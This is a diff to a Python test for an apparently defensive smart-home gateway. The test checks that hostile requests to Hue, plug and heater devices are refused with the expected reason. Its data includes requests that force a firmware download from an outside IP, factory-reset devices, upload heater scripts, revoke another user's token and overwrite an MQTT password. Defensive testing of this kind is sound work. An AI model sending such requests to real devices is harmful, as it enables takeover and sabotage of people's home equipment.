@@ -252,20 +252,23 @@ def _values_out_of_their_range_and_unknown_paths(house: House) -> None:
 
 
 def _what_gives_a_device_away(house: House) -> None:
-    everything: list[tuple[str, str, str, str | None, dict[str, str]]] = [
-        (HUE, "POST", "/api", '{"devicetype":"app#x"}', JSON),
-        (HUE, "DELETE", f"/api/{TABLET_TOKEN}/config/whitelist/{SOMEBODYS_TOKEN}", None, {}),
-        (PLUG, "GET", "/ota?url=http://203.0.113.9/firmware.zip", None, {"authorization": BASIC}),
-        (PLUG, "GET", "/settings?reset=1", None, {"authorization": BASIC}),
-        (HEATER, "POST", "/rpc/Script.PutCode", '{"id":1,"code":"print(1)"}', JSON),
-        (HEATER, "POST", "/rpc", '{"id":1,"method":"Shelly.FactoryReset"}', JSON),
+    basic = {"authorization": BASIC}
+    everything: list[tuple[str, str, str, str | None, dict[str, str], str]] = [
+        (HUE, "POST", "/api", '{"devicetype":"app#x"}', JSON, "anomalous"),
+        (HUE, "DELETE", f"/api/{TABLET_TOKEN}/config/whitelist/{SOMEBODYS_TOKEN}", None, {}, "anomalous"),
+        (HUE, "PUT", f"/api/{TABLET_TOKEN}/groups/00/action", '{"on":false}', JSON, "unknown-node"),
+        (PLUG, "GET", "/ota?url=http://203.0.113.9/firmware.zip", None, basic, "anomalous"),
+        (PLUG, "GET", "/settings?reset=1", None, basic, "unknown-node"),
+        (PLUG, "GET", "/settings?mqtt_pass=evil", None, basic, "unknown-node"),
+        (HEATER, "POST", "/rpc/Script.PutCode", '{"id":1,"code":"print(1)"}', JSON, "anomalous"),
+        (HEATER, "POST", "/rpc", '{"id":1,"method":"Shelly.FactoryReset"}', JSON, "anomalous"),
     ]
-    for address, method, target, body, headers in everything:
+    for address, method, target, body, headers, why in everything:
         _, reason = refused(
             house,
             lambda a=address, m=method, t=target, b=body, h=headers: house.ask(TABLET, a, m, t, b, h),  # type: ignore[misc]
         )
-        assert reason in {"anomalous", "unknown-node"}, target
+        assert reason == why, target
     assert (house.plug.resets, house.plug.updates, house.heater.resets, house.heater.scripts) == (0, [], 0, {})
     assert SOMEBODYS_TOKEN in house.hue.whitelist
 
